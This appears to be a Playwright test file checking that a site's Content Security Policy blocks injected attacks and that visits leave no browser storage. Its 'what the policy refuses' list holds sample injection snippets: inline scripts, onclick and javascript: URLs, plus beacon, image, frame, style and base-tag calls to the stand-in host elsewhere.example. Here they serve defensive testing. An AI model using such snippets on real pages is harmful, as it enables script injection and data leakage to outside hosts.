import type { Browser, Page } from 'playwright';
import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest';
import { loadCollection } from '../../src/collection/loadCollection.ts';
import { HEADERS } from '../../src/headers.ts';
import { openBrowser, openPage, openSite } from '../support/browserSession.ts';
import { chooseValue, openExplorer, typeQuery, whenReady } from '../support/explorerPage.ts';
import { readDemonstration } from '../support/readDemonstration.ts';

const site = inject('demonstration');
const outcomes = readDemonstration();
let browser: Browser;
beforeAll(async () => {
  browser = await openBrowser();
});
afterAll(async () => {
  await browser.close();
});

/** Whatever a browser can keep of a visit. */
async function readStores(page: Page): Promise<object> {
  const kept = await page.evaluate(async () => ({
    local: localStorage.length,
    session: sessionStorage.length,
    databases: (await indexedDB.databases()).length,
    caches: (await caches.keys()).length,
    workers: (await navigator.serviceWorker.getRegistrations()).length,
    cookie: document.cookie,
    name: window.name,
  }));
  return { ...kept, cookies: await page.context().cookies() };
}

describe('a visit under the policy', () => {
  test('searching, filtering, sorting, reading and copying need nothing that it refuses, and leave nothing behind', async () => {
    const { page, faults, close } = await openPage(browser);
    const origins = new Set<string>();
    page.on('request', (request) => origins.add(new URL(request.url()).origin));
    const response = await page.goto(site.address);
    for (const [name, value] of Object.entries(HEADERS))
      expect(await response?.headerValue(name)).toBe(value);

    await openExplorer(page, `${site.address}outcomes/`);
    await typeQuery(page, 'curfew');
    await page.locator('.explorer__results mark').first().waitFor();
    await chooseValue(page, 'Country', 'Kenya');
    await page.getByRole('button', { name: 'Table' }).click();
    await whenReady(page);
    await page.getByRole('button', { name: 'Headline' }).click();
    await whenReady(page);
    await page.locator('.table tbody a').first().click();
    await page.locator('article.outcome mark').first().waitFor();
    await page.getByRole('button', { name: 'Copy link' }).click();
    await page
      .locator('[role="status"]')
      .getByText(/Link copied|select the address/)
      .waitFor();

    expect(faults).toEqual([]);
    expect([...origins]).toEqual([new URL(site.address).origin]);
    expect(await readStores(page)).toEqual({
      ...{ local: 0, session: 0, databases: 0, caches: 0, workers: 0 },
      ...{ cookie: '', name: '', cookies: [] },
    });
    await close();
  });

  test('the search runs without the headers of a host as well', async () => {
    const { page, faults, close } = await openPage(browser);
    await page.route('**/*', async (route) => {
      const response = await route.fetch();
      const names = new Set(Object.keys(HEADERS).map((name) => name.toLowerCase()));
      const headers = Object.fromEntries(
        Object.entries(response.headers()).filter(([name]) => !names.has(name)),
      );
      await route.fulfill({ response, headers });
    });
    await openExplorer(page, `${site.address}outcomes/?q=community`);
    expect(await page.locator('.explorer__results .card').count()).toBeGreaterThan(0);
    expect(faults).toEqual([]);
    // What the explorer still fetches ahead is no concern of this test.
    await page.unrouteAll({ behavior: 'ignoreErrors' });
    await close();
  });

  test('an earlier id leads on to its outcome', async () => {
    const synthetic = inject('synthetic');
    const moved = loadCollection(synthetic.content).outcomes.find(
      ({ aliases }) => aliases.length > 0,
    );
    const served = await openSite(synthetic);
    const { page, faults, close } = await openPage(browser);
    await page.goto(`${served.address}outcomes/${moved?.aliases[0]?.slug ?? ''}/`);
    await page.waitForURL(`${served.address}outcomes/${moved?.slug ?? ''}/`);
    expect(faults).toEqual([]);
    await close();
    served.close();
  });
});

describe('what the policy refuses', () => {
  const attacks: readonly (readonly [name: string, directive: string, attack: () => void])[] = [
    [
      'a script in the page',
      'script-src-elem',
      () => {
        const script = document.createElement('script');
        script.textContent = 'document.title = "hacked"';
        document.body.append(script);
      },
    ],
    [
      'a handler in an attribute',
      'script-src-attr',
      () => {
        const button = document.createElement('button');
        button.setAttribute('onclick', 'document.title = "hacked"');
        document.body.append(button);
        button.click();
      },
    ],
    [
      'text run as a script',
      'script-src',
      () => {
        const run = document.createElement('a');
        run.href = 'javascript:document.title="hacked"';
        document.body.append(run);
        run.click();
      },
    ],
    [
      'an image of another host',
      'img-src',
      () => {
        const image = new Image();
        image.src = 'https://elsewhere.example/?read=1';
        document.body.append(image);
      },
    ],
    [
      'a message to another host',
      'connect-src',
      () => {
        navigator.sendBeacon('https://elsewhere.example/', 'read');
      },
    ],
    [
      'a frame',
      'frame-src',
      () => {
        const frame = document.createElement('iframe');
        frame.src = 'https://elsewhere.example/';
        document.body.append(frame);
      },
    ],
    [
      'a style in the page',
      'style-src-attr',
      () => {
        const part = document.createElement('p');
        part.setAttribute('style', 'background: url(https://elsewhere.example/)');
        document.body.append(part);
      },
    ],
    [
      'another base of all links',
      'base-uri',
      () => {
        const base = document.createElement('base');
        base.href = 'https://elsewhere.example/';
        document.head.append(base);
      },
    ],
  ];

  test.for(attacks)('%s', async ([, directive, attack]) => {
    const { page, faults, close } = await openPage(browser);
    const answered: string[] = [];
    page.on('response', (response) => answered.push(response.url()));
    await page.goto(`${site.address}outcomes/${outcomes[0]?.slug ?? ''}/`);
    const title = await page.title();
    await page.evaluate(attack);
    // The page and the host each refuse it.
    const refused = (): string[] => faults.filter((fault) => fault.startsWith('Refused by'));
    await expect.poll(() => refused().length).toBeGreaterThanOrEqual(2);
    for (const fault of refused()) expect(fault).toContain(`Refused by ${directive}`);
    expect(await page.title()).toBe(title);
    expect(answered.filter((url) => url.includes('elsewhere'))).toEqual([]);
    await close();
  });
});
